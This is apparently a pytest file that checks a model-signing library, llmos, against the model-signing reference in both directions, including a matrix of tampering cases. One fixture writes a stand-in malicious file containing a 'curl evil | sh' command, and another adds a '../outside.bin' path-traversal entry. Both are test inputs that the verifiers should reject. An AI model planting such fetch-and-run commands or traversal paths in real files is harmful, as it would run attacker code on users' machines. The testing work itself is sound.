"""Interoperability with the reference, PyPI model-signing 1.1.1: both ways, through both tools' CLI and library.

- what model_signing signs verifies in llmos (library and `llmos model verify`), for every hash and method it makes;
- what llmos signs verifies in model_signing: sha256/files through its command line, everything through its library;
- every failure case (changed content, missing file, extra file, symlink, untrusted key, bad signature, malformed or
  truncated bundle, wrong predicate type, path traversal) fails in both tools, through both faces of each.

Limits of the reference asserted here (so that a new release that lifts them shows up): its command line verifies
only files+sha256 (it refuses a blake3 bundle); its library cannot verify its own shards bundles (TypeError: the shard
size comes back from protobuf JSON as a float — llmos writes an integer, so llmos's shards bundles verify there); it
cannot guess the hashing of blake2 bundles, its own included (it writes "blake2b" and only knows "blake2"); it still
accepts the pre-1.0 Digests/v0.1 predicate, which llmos refuses.

The model_signing command line is run as a real process for the round trips and for the failure matrix signed by
llmos (the processes run concurrently to keep this fast); the failure matrix of bundles signed by model_signing runs
its click command in-process (the same code, without 0.6 s of imports per call).
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

import llmos_signing as ls
from llmos_signing import VerificationError
from llmos_signing.cli import main as llmos_main
from llmos_signing.testing import craft_bundle, make_vectors, statement_of, write_keypair

pytestmark = pytest.mark.unit

model_signing = pytest.importorskip("model_signing")
pytest.importorskip("OpenSSL")  # model_signing needs pyOpenSSL and does not declare it
from model_signing import hashing as ms_hashing  # noqa: E402
from model_signing import signing as ms_signing  # noqa: E402
from model_signing import verifying as ms_verifying  # noqa: E402

MS_CLI = Path(sys.executable).with_name("model_signing")
SHARD = 1000


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    d = tmp_path_factory.mktemp("keys")
    return {"alice": write_keypair(d, "alice"), "mallory": write_keypair(d, "mallory")}


@pytest.fixture
def model(tmp_path):
    return make_vectors(tmp_path / "model")


def ms_hashing_config(hash_type: str = "sha256", method: str = "files", ignore=("model.sig",)):
    hc = ms_hashing.Config().set_ignored_paths(paths=list(ignore))
    ms_alg = {"blake2b": "blake2"}.get(hash_type, hash_type)
    if method == "files":
        return hc.use_file_serialization(hashing_algorithm=ms_alg)
    return hc.use_shard_serialization(hashing_algorithm=ms_alg, shard_size=SHARD)


def ms_sign(model: Path, priv: Path, sig: Path, hash_type="sha256", method="files") -> bytes:
    ms_signing.Config().use_elliptic_key_signer(private_key=priv).set_hashing_config(
        ms_hashing_config(hash_type, method, ignore=(sig.name,))
    ).sign(model, sig)
    return sig.read_bytes()


def ms_verify(model: Path, pub: Path, sig: Path, hashing_config=None) -> None:
    cfg = ms_verifying.Config().use_elliptic_key_verifier(public_key=pub)
    if hashing_config is not None:
        cfg.set_hashing_config(hashing_config)
    cfg.verify(model, sig)


def ms_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(MS_CLI), *args], capture_output=True, text=True, timeout=120)


def ms_cli_inprocess(*args: str) -> int:
    from model_signing._cli import main

    try:
        main.main(args=list(args), prog_name="model_signing", standalone_mode=False)
    except SystemExit as exit_:
        return int(exit_.code or 0)
    except Exception:  # noqa: BLE001 - click errors: a failure all the same
        return 1
    return 0


def llmos_cli(*args: str) -> int:
    return llmos_main(list(args))


# --- model_signing signs, llmos verifies ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hash_type,method",
    [("sha256", "files"), ("blake3", "files"), ("blake2b", "files"), ("sha256", "shards"), ("blake2b", "shards")],
)
def test_model_signing_library_bundles_verify_in_llmos(model, keys, hash_type, method):
    priv, pub = keys["alice"]
    sig = model / "model.sig"
    bundle = ms_sign(model, priv, sig, hash_type, method)
    v = ls.verify_model(model, sig, {"alice": pub.read_bytes()})
    assert v.hash_type == hash_type and v.method == method and v.signer == "alice"
    assert v.key_hint == json.loads(bundle)["verificationMaterial"]["publicKey"]["hint"]
    # same manifest as llmos makes for the same options: same root digest
    mine = ls.build_manifest(model, hash_type=hash_type, method=method, shard_size=SHARD)
    assert mine.root_digest == v.root_digest
    if method == "shards":
        assert statement_of(bundle)["predicate"]["serialization"]["shard_size"] == float(SHARD)
    if method == "shards" and hash_type == "sha256":
        # the reference cannot verify its own shards bundle: the shard size comes back as a float
        with pytest.raises(TypeError, match="float"):
            ms_verify(model, pub, sig)
        ms_verify(model, pub, sig, ms_hashing_config(hash_type, method))  # told the hashing, it can
    if hash_type == "blake2b":
        with pytest.raises(ValueError, match="blake2b"):  # it cannot guess blake2 back
            ms_verify(model, pub, sig)
        ms_verify(model, pub, sig, ms_hashing_config(hash_type, method))  # told the hashing, it can
    # a change is caught by llmos in every mode
    (model / "big.bin").write_bytes(b"changed")
    with pytest.raises(VerificationError) as info:
        ls.verify_model(model, sig, {"alice": pub.read_bytes()})
    assert info.value.reason == "HashMismatch" and info.value.path == "big.bin"


def test_model_signing_cli_bundle_verifies_in_llmos_cli(model, keys, capsys):
    priv, pub = keys["alice"]
    r = ms_cli("sign", "key", "--private_key", str(priv), "--signature", str(model / "model.sig"), str(model))
    assert r.returncode == 0, r.stderr
    assert llmos_cli("model", "verify", str(model), "--key", str(pub)) == 0
    assert "signed by alice (8 files" in capsys.readouterr().out
    assert ls.verify_model(model, model / "model.sig", {"a": pub.read_bytes()}).file_count == 8


# --- llmos signs, model_signing verifies -----------------------------------------------------------------------


def test_llmos_cli_bundle_verifies_in_model_signing_cli(model, keys):
    priv, pub = keys["alice"]
    assert llmos_cli("model", "sign", str(model), "--key", str(priv), "-q") == 0
    r = ms_cli("verify", "key", "--public_key", str(pub), "--signature", str(model / "model.sig"), str(model))
    assert r.returncode == 0, r.stderr
    assert "Verification succeeded" in r.stdout
    ms_verify(model, pub, model / "model.sig")


@pytest.mark.parametrize("hash_type,method", [("sha256", "files"), ("blake3", "files"), ("sha256", "shards"),
                                              ("blake2b", "files"), ("blake2b", "shards")])
def test_llmos_bundles_verify_in_model_signing_library(model, keys, hash_type, method):
    priv, pub = keys["alice"]
    sig = model / "model.sig"
    ls.sign_model(model, priv.read_bytes(), hash_type=hash_type, method=method, shard_size=SHARD)
    if hash_type == "blake2b":
        with pytest.raises(ValueError, match="blake2b"):  # the reference's guess, as for its own blake2 bundles
            ms_verify(model, pub, sig)
    else:
        ms_verify(model, pub, sig)  # guessed from the bundle; llmos writes shard_size as an integer
    ms_verify(model, pub, sig, ms_hashing_config(hash_type, method))
    (model / "a-c").write_bytes(b"tampered")
    with pytest.raises(ValueError, match="a-c"):
        ms_verify(model, pub, sig, ms_hashing_config(hash_type, method))


def test_model_signing_cli_refuses_blake3_but_its_library_verifies_it(model, keys):
    priv, pub = keys["alice"]
    assert llmos_cli("model", "sign", str(model), "--key", str(priv), "--hash", "blake3", "-q") == 0
    r = ms_cli("verify", "key", "--public_key", str(pub), "--signature", str(model / "model.sig"), str(model))
    assert r.returncode == 1  # a limit of the reference's command line, not of the bundle
    ms_verify(model, pub, model / "model.sig")


def test_old_key_material_and_old_predicate(model, keys):
    priv, pub = keys["alice"]
    key = ls.load_private_key(priv.read_bytes())
    stmt = statement_of(ls.sign_model(model, key))
    old = craft_bundle(stmt, key, raw_bytes=True)  # 1.0.x: rawBytes + keyDetails instead of a hint
    (model / "model.sig").write_bytes(old)
    ls.verify_model(model, model / "model.sig", {"alice": pub.read_bytes()})
    ms_verify(model, pub, model / "model.sig")
    # the pre-1.0 predicate: one subject per file. model_signing still accepts it; llmos refuses it.
    v01 = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": r["name"], "digest": {"sha256": r["digest"]}} for r in stmt["predicate"]["resources"]],
        "predicateType": "https://model_signing/Digests/v0.1",
        "predicate": {},
    }
    (model / "model.sig").write_bytes(craft_bundle(v01, key))
    ms_verify(model, pub, model / "model.sig", ms_hashing_config())
    with pytest.raises(VerificationError) as info:
        ls.verify_model(model, model / "model.sig", {"alice": pub.read_bytes()})
    assert info.value.reason == "WrongPredicateType"


# --- every failure case fails in both ---------------------------------------------------------------------------


def _change(m: Path) -> str:
    p = m / "weights" / "layer.0" / "w.bin"
    data = bytearray(p.read_bytes())
    data[7] ^= 1
    p.write_bytes(bytes(data))
    return "HashMismatch"


def _missing(m: Path) -> str:
    (m / "a" / "b").unlink()
    return "MissingFile"


def _extra(m: Path) -> str:
    (m / "modeling_evil.py").write_text("import os\nos.system('curl evil | sh')\n")
    return "ExtraFile"


def _symlink(m: Path) -> str:
    target = m.parent / "outside.json"
    shutil.copy(m / "config.json", target)
    (m / "config.json").unlink()
    os.symlink(target, m / "config.json")
    return "Symlink"


def _untrusted(m: Path) -> str:
    return "UntrustedKey"  # verified with mallory's key below


def _bad_signature(m: Path) -> str:
    sig = m / "model.sig"
    b = json.loads(sig.read_bytes())
    stmt = json.loads(base64.b64decode(b["dsseEnvelope"]["payload"]))
    stmt["predicate"]["resources"][0]["digest"] = "0" * 64
    b["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(stmt).encode()).decode()
    sig.write_text(json.dumps(b))
    return "BadSignature"


def _truncated(m: Path) -> str:
    sig = m / "model.sig"
    sig.write_bytes(sig.read_bytes()[: len(sig.read_bytes()) // 2])
    return "MalformedBundle"


def _malformed(m: Path) -> str:
    sig = m / "model.sig"
    b = json.loads(sig.read_bytes())
    del b["dsseEnvelope"]["signatures"]
    sig.write_text(json.dumps(b))
    return "MalformedBundle"


def _resign(m: Path, stmt: dict) -> None:
    key = ls.load_private_key((m.parent / "alice.pem").read_bytes())
    (m / "model.sig").write_bytes(craft_bundle(stmt, key, fix_root=True))


def _wrong_predicate(m: Path) -> str:
    stmt = statement_of((m / "model.sig").read_bytes())
    stmt["predicateType"] = "https://slsa.dev/provenance/v1"
    _resign(m, stmt)
    return "WrongPredicateType"


def _traversal(m: Path) -> str:
    stmt = statement_of((m / "model.sig").read_bytes())
    outside = m.parent / "outside.bin"
    outside.write_bytes(b"not part of the model")
    res = stmt["predicate"]["resources"]
    res.append({"name": "../outside.bin", "algorithm": res[0]["algorithm"],
                "digest": ls.build_manifest(outside).resources[0].digest})
    _resign(m, stmt)
    return "PathTraversal"


FAILURES = {
    "changed-content": _change,
    "missing-file": _missing,
    "extra-file": _extra,
    "symlink": _symlink,
    "untrusted-key": _untrusted,
    "bad-signature": _bad_signature,
    "truncated-bundle": _truncated,
    "malformed-bundle": _malformed,
    "wrong-predicate-type": _wrong_predicate,
    "path-traversal": _traversal,
}


def _prepare(base: Path, name: str, signer: str, keys) -> tuple[Path, Path, str]:
    """A signed copy of the vectors under base/name, broken by FAILURES[name]; returns (model, pubkey, reason)."""
    root = base / f"{signer}-{name}"
    m = make_vectors(root / "model")
    priv, pub = keys["alice"]
    shutil.copy(priv, root / "alice.pem")
    if signer == "llmos":
        ls.sign_model(m, priv.read_bytes())
    else:
        ms_sign(m, priv, m / "model.sig")
    reason = FAILURES[name](m)
    verify_pub = keys["mallory"][1] if name == "untrusted-key" else pub
    return m, verify_pub, reason


def _check_llmos(m: Path, pub: Path, reason: str) -> None:
    with pytest.raises(VerificationError) as info:
        ls.verify_model(m, m / "model.sig", {"trusted": pub.read_bytes()})
    assert info.value.reason == reason, str(info.value)
    assert "\n" not in str(info.value)
    assert llmos_cli("model", "verify", str(m), "--key", str(pub), "-q") == 1


def _check_ms_library(m: Path, pub: Path) -> None:
    with pytest.raises(Exception):  # noqa: B017 - ValueError, InvalidSignature, JSONDecodeError… all are refusals
        ms_verify(m, pub, m / "model.sig")


@pytest.mark.parametrize("name", list(FAILURES))
def test_failure_fails_in_both_libraries_and_llmos_cli(tmp_path, keys, name, capsys):
    for signer in ("llmos", "model_signing"):
        m, pub, reason = _prepare(tmp_path, name, signer, keys)
        _check_llmos(m, pub, reason)
        _check_ms_library(m, pub)
        args = ("verify", "key", "--public_key", str(pub), "--signature", str(m / "model.sig"), str(m))
        assert ms_cli_inprocess(*args) == 1, f"model_signing CLI (in-process) accepted {signer}/{name}"
    err = capsys.readouterr().err
    assert err.count("error: verification failed:") == 2


def test_failure_fails_in_model_signing_cli_process(tmp_path, keys):
    """The real `model_signing verify key` process refuses every broken case (run concurrently)."""
    cases = {name: _prepare(tmp_path, name, "llmos", keys) for name in FAILURES}
    good = make_vectors(tmp_path / "good" / "model")
    ls.sign_model(good, keys["alice"][0].read_bytes())
    cases["control"] = (good, keys["alice"][1], "")

    def run(item):
        name, (m, pub, _) = item
        return name, ms_cli("verify", "key", "--public_key", str(pub), "--signature", str(m / "model.sig"), str(m))

    with ThreadPoolExecutor(max_workers=len(cases)) as pool:
        results = dict(pool.map(run, cases.items()))
    assert results.pop("control").returncode == 0
    accepted = [name for name, r in results.items() if r.returncode != 1]
    assert not accepted, {n: results[n].stdout + results[n].stderr for n in accepted}
